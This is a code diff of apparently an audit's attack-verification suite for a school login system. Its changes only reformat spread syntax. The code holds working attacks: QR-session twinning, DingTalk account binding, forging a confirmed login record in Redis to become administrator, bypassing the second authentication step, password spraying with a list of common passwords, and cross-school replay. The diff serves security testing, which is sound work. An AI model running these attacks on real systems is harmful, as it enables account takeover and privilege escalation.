@@ -36,7 +36,8 @@ async function byPassword({ url }: Field, userName: string): Promise<Browser> {
 }
 
 export const twinning: Attack = {
-  ...{ finding: 'F4', what: 'scanning one’s own QR code with a session of a password alone' },
+  finding: 'F4',
+  what: 'scanning one’s own QR code with a session of a password alone',
   before: 'a twin that counts as proved, with 24 hours of its own, that lives on when its owner signs out',
   async run(field) {
     const { owner, orgId } = await also(field, 0)
@@ -70,7 +71,8 @@ export const twinning: Attack = {
 }
 
 export const binding: Attack = {
-  ...{ finding: 'F5', what: 'binding one’s own DingTalk user to somebody whose password one knows' },
+  finding: 'F5',
+  what: 'binding one’s own DingTalk user to somebody whose password one knows',
   before: 'bound at once, no message to its owner, counts as proved and survives a new password',
   async run(field) {
     const owner = field.owners[1]!
@@ -98,7 +100,8 @@ export const binding: Attack = {
 }
 
 export const believing: Attack = {
-  ...{ finding: 'F8', what: 'writing into Redis who has confirmed a QR code' },
+  finding: 'F8',
+  what: 'writing into Redis who has confirmed a QR code',
   before: 'signed in as the administrator of the bureau',
   async run(field) {
     const browser = new Browser(field.url)
@@ -107,13 +110,18 @@ export const believing: Attack = {
     const text = (await field.redis.get(key!)) ?? ''
     const victim = field.truth.find(({ userId }) => userId)!
     const forged = JSON.stringify({
-      ...{ state: 'confirmed', browser: '', number: '11', agent: '', address: browser.address },
-      ...{ askedAt: new Date().toISOString(), accountId: randomUUID(), district: 1, userId: victim.userId },
-      ...{
-        factors: ['password', 'sms'],
-        sessionId: randomUUID(),
-        expiresAt: new Date(Date.now() + 3600_000).toISOString(),
-      },
+      state: 'confirmed',
+      browser: '',
+      number: '11',
+      agent: '',
+      address: browser.address,
+      askedAt: new Date().toISOString(),
+      accountId: randomUUID(),
+      district: 1,
+      userId: victim.userId,
+      factors: ['password', 'sms'],
+      sessionId: randomUUID(),
+      expiresAt: new Date(Date.now() + 3600_000).toISOString(),
     })
     await field.redis.set(key!, forged, 'KEEPTTL')
     const written = await browser.post('/api/users/qrLogin', { code })
@@ -130,7 +138,8 @@ export const believing: Attack = {
 }
 
 export const secondStep: Attack = {
-  ...{ finding: 'F9', what: 'administrators, and the door of families, by the password alone' },
+  finding: 'F9',
+  what: 'administrators, and the door of families, by the password alone',
   before: 'tokens for yunhe.admin and every school administrator; at the family door no second step at all',
   async run(field) {
     const names = ['yunhe.admin', 'minghu.admin', 'shiyan.admin']
@@ -141,7 +150,8 @@ export const secondStep: Attack = {
     }
     // The same account and password: the door of families must not ask for less than the door of staff.
     const family = await new Browser(field.url).post('/api/users/userLogin', {
-      ...{ userName: 'wenlan.teacher', userPwd: password },
+      userName: 'wenlan.teacher',
+      userPwd: password,
     })
     const administrator = await enter(field, 'shiyan.admin')
     const own = await good(administrator.get<{ userId: string }>('/api/users/loginInof'))
@@ -154,13 +164,14 @@ export const secondStep: Attack = {
       .concat(['qq', 'teacherLevel', 'diploma', 'graduateSchool', 'specialty', 'resume', 'remark'] as never)
       .map((key) => [key, told(key)])
     const exempted = await administrator.post(staffApi.edit.path, {
-      ...{
-        id: own.userId,
-        departmentId: placed === emptyId ? null : placed,
-        version: self['fVersion'],
-        noSecondStep: true,
-      },
-      ...{ ...Object.fromEntries(texts), userType: 'teacher', workerType: null, workedFrom: '' },
+      id: own.userId,
+      departmentId: placed === emptyId ? null : placed,
+      version: self['fVersion'],
+      noSecondStep: true,
+      ...Object.fromEntries(texts),
+      userType: 'teacher',
+      workerType: null,
+      workedFrom: '',
     })
     const isExempt = !exempted.text.includes('不能免除自己的二次验证')
     return {
@@ -171,12 +182,23 @@ export const secondStep: Attack = {
 }
 
 const likely = [
-  ...['Football123', 'Superman1!', 'Zhangwei123', 'Wang123456', 'Huawei@123', 'Yunhe2026', 'Yanlian#2026'],
-  ...['Password1!', 'Qwer1234!', 'Iloveyou520', 'Liming@123', 'Abcd1234!'],
+  'Football123',
+  'Superman1!',
+  'Zhangwei123',
+  'Wang123456',
+  'Huawei@123',
+  'Yunhe2026',
+  'Yanlian#2026',
+  'Password1!',
+  'Qwer1234!',
+  'Iloveyou520',
+  'Liming@123',
+  'Abcd1234!',
 ]
 
 export const weakness: Attack = {
-  ...{ finding: 'F11', what: 'likely passwords' },
+  finding: 'F11',
+  what: 'likely passwords',
   before: '500 of 532 accepted, among them Football123, Wang123456, Huawei@123',
   async run(field) {
     const browser = await byPassword(field, field.owners[2]!.userName)
@@ -195,7 +217,8 @@ export const weakness: Attack = {
 }
 
 export const replaying: Attack = {
-  ...{ finding: 'F13', what: 'an answer of one place asked for again in another, with its key' },
+  finding: 'F13',
+  what: 'an answer of one place asked for again in another, with its key',
   before: 'the number of a pupil, in a school where the pupil does not exist',
   async run(field) {
     const chief = await enter(field, 'yunhe.admin')
